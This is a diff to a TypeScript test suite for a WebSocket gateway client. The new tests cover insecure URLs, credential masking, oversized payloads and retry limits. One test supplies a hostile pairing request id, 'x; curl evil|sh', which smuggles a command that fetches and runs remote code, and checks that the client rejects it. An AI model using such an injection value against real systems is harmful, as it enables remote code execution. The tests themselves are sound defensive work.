@@ -15,10 +15,15 @@ import {
   type WebSocketCtor,
   type WebSocketLike,
 } from '../../main/engine/gateways/openclaw/live/client.js';
-import { gatewayTarget } from '../../main/engine/gateways/openclaw/live/connection.js';
+import { displayUrl, gatewayTarget, unsafeGatewayUrl } from '../../main/engine/gateways/openclaw/live/connection.js';
+import { AuthStatusPayload } from '../../main/engine/gateways/openclaw/live/auth-status.js';
+import { readLive } from '../../main/engine/gateways/openclaw/live/read-live.js';
+import { clockText, resetText } from '../../common/live-usage.js';
+import { agent, snapshot } from '../support/snapshots.js';
 import {
   loadDeviceToken,
   loadOrCreateIdentity,
+  storeDeviceToken,
   signConnect,
   type DeviceSecrets,
 } from '../../main/engine/gateways/openclaw/live/device.js';
@@ -234,7 +239,7 @@ describe('one question to the gateway', () => {
 
   it('without a shared secret, the kept device token is the credential', async () => {
     const secrets = memorySecrets();
-    secrets.map.set(`token ${URL}`, JSON.stringify({ token: 'kept-dev-token', scopes: ['operator.read'] }));
+    await storeDeviceToken(secrets, URL, { token: 'kept-dev-token', scopes: ['operator.read'] });
     await ask(
       scripted((ws, f) => {
         if (f['method'] === 'connect') ws.push({ type: 'res', id: f['id'], ok: true, payload: hello() });
@@ -270,10 +275,10 @@ describe('one question to the gateway', () => {
 
   it('a revoked device token is forgotten', async () => {
     const secrets = memorySecrets();
-    secrets.map.set(`token ${URL}`, JSON.stringify({ token: 'old', scopes: [] }));
+    await storeDeviceToken(secrets, URL, { token: 'old', scopes: [] });
     const r = await ask(refusal({ code: 'AUTH_DEVICE_TOKEN_MISMATCH' }, 'device token mismatch'), secrets, null);
     assert.equal(r.kind === 'refused' && r.code, 'device-token');
-    assert.equal(secrets.map.has(`token ${URL}`), false);
+    assert.equal(await loadDeviceToken(secrets, URL), null);
   });
 
   it('a gateway still starting is asked again within the budget', async () => {
@@ -375,5 +380,158 @@ describe('one question to the gateway', () => {
     assert.equal(cleanGatewayText('a\nb\u202ec sekrit', ['sekrit']), 'a b c …');
     assert.equal(cleanGatewayText({ x: 1 }, []), '');
     assert.equal(cleanGatewayText('x'.repeat(500), []).length, 240);
+  });
+});
+
+describe('a gateway that is hostile, broken or in the wrong place', () => {
+  it('never sends the token over plaintext to a public host, nor to a URL with a password in it', async () => {
+    assert.equal(unsafeGatewayUrl('ws://127.0.0.1:18789/'), null);
+    assert.equal(unsafeGatewayUrl('ws://192.168.1.20:18789/'), null);
+    assert.equal(unsafeGatewayUrl('ws://gw.tail1234.ts.net:18789/'), null);
+    assert.equal(unsafeGatewayUrl('ws://box.local:18789/'), null);
+    assert.equal(unsafeGatewayUrl('wss://gateway.example.com/'), null);
+    assert.match(unsafeGatewayUrl('ws://gateway.example.com:18789/') ?? '', /plaintext/);
+    assert.match(unsafeGatewayUrl('ws://8.8.8.8:18789/') ?? '', /plaintext/);
+    assert.match(unsafeGatewayUrl('wss://op:hunter2@gateway.example.com/') ?? '', /password/);
+    assert.equal(displayUrl('ws://op:hunter2@127.0.0.1:1/x?token=abc#f'), 'ws://127.0.0.1:1/x');
+
+    let opened = 0;
+    const Counting = class extends FakeSocket {
+      constructor(url: string) {
+        super(url, () => undefined);
+        opened++;
+      }
+    };
+    const files = snapshot({ gateway: 'openclaw', agents: [agent('main', [])] });
+    for (const url of ['ws://gateway.example.com:18789/', 'ws://op:hunter2-pass@127.0.0.1:1/']) {
+      const view = await readLive(files, {
+        env: { OPENCLAW_GATEWAY_URL: url, OPENCLAW_GATEWAY_TOKEN: 'env-shared-token' },
+        platform: 'linux',
+        now: () => 1,
+        clientVersion: '1',
+        owner: 'cli',
+        secrets: () => memorySecrets(),
+        WebSocket: Counting,
+      });
+      assert.equal(view.state, 'unavailable');
+      assert.equal(view.reasonCode, 'insecure-url');
+      assert.ok(!JSON.stringify(view).includes('hunter2'), 'the password is never shown');
+    }
+    assert.equal(opened, 0, 'nothing was sent');
+  });
+
+  it('numbers beyond the calendar, huge answers and secrets in names are cut down before anything shows them', () => {
+    const tok = `sk-ant-oat01-${'Zq9'.repeat(30)}`;
+    const parsed = AuthStatusPayload.parse({
+      providers: [
+        {
+          provider: 'anthropic',
+          displayName: `Claude ${tok}\u001b[2J`,
+          status: 'ok',
+          expiry: { at: 1e308 },
+          profiles: [{ profileId: 'anthropic:x', status: 'ok', expiry: { at: -1e300 } }],
+          usage: { windows: [{ label: '5h', usedPercent: 1e308, resetAt: 1e308 }] },
+        },
+        ...Array.from({ length: 10_000 }, (_, i) => ({ provider: `p${i}`, profiles: [] })),
+      ],
+    });
+    assert.equal(parsed.providers.length, 100);
+    const p = parsed.providers[0]!;
+    assert.equal(p.expiry?.at, undefined);
+    assert.equal(p.profiles[0]?.expiry?.at, undefined);
+    assert.deepEqual(p.usage?.windows[0], { label: '5h', usedPercent: 1000, resetAt: undefined });
+    assert.ok(!p.displayName?.includes(tok.slice(13, 40)), 'a credential-shaped run is masked');
+    assert.doesNotMatch(p.displayName ?? '', /\u001b/);
+    // And the words every front end uses never throw on a time that is not a date.
+    assert.equal(resetText(1e308, 0), null);
+    assert.equal(clockText(1e308, 0), '?');
+  });
+
+  it('a pairing request id is taken only when it is a plain id (it goes into a command to run)', async () => {
+    const hostile = await ask(
+      scripted((ws, f) =>
+        ws.push({
+          type: 'res',
+          id: f['id'],
+          ok: false,
+          error: {
+            code: 'INVALID_REQUEST',
+            message: 'pairing required',
+            details: { code: 'PAIRING_REQUIRED', requestId: 'x; curl evil|sh' },
+          },
+        }),
+      ),
+    );
+    assert.deepEqual(hostile.kind === 'refused' && [hostile.code, hostile.requestId], ['pairing-required', null]);
+    const odd = await ask(
+      scripted((ws, f) =>
+        ws.push({
+          type: 'res',
+          id: f['id'],
+          ok: false,
+          error: { code: 'X', message: 'no', details: { code: 'weird\u001b[31m' } },
+        }),
+      ),
+    );
+    assert.equal(odd.kind === 'refused' && odd.code, 'refused');
+  });
+
+  it('fifty challenges start one connect; a gateway that is forever starting gets three tries', async () => {
+    await ask(
+      scripted(
+        (ws, f) => ws.push({ type: 'res', id: f['id'], ok: true, payload: f['method'] === 'connect' ? hello() : {} }),
+        (ws) => {
+          for (let i = 0; i < 50; i++)
+            ws.push({ type: 'event', event: 'connect.challenge', payload: { nonce: `n${i}`, ts: 1 } });
+        },
+      ),
+    );
+    assert.equal(FakeSocket.last!.sent.filter((f) => f['method'] === 'connect').length, 1);
+    let connects = 0;
+    const r = await ask(
+      scripted((ws, f) => {
+        connects++;
+        ws.push({
+          type: 'res',
+          id: f['id'],
+          ok: false,
+          error: {
+            code: 'UNAVAILABLE',
+            message: 'starting',
+            retryable: true,
+            retryAfterMs: 100,
+            details: { reason: 'startup-sidecars' },
+          },
+        });
+      }),
+    );
+    assert.equal(connects, 3);
+    assert.equal(r.kind === 'unavailable' && r.code, 'starting');
+  });
+
+  it('something listens on the port but no WebSocket handshake completes (a TLS gateway AuthBar cannot verify): unavailable, not "not running"', async () => {
+    const server = createServer((socket) => socket.destroy());
+    await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
+    const port = (server.address() as { port: number }).port;
+    try {
+      const r = await askAuthStatus({
+        url: `wss://127.0.0.1:${port}/`,
+        token: 't',
+        password: null,
+        secrets: () => memorySecrets(),
+        clientVersion: '1',
+        platform: 'linux',
+        params: {},
+        timeoutMs: 2_000,
+        WebSocket: scripted(
+          () => undefined,
+          (ws) => ws.shut(1006, ''),
+        ),
+      });
+      assert.equal(r.kind, 'unavailable');
+      assert.match(r.kind === 'unavailable' ? r.message : '', /TLS certificate/);
+    } finally {
+      await new Promise<void>((res) => server.close(() => res()));
+    }
   });
 });
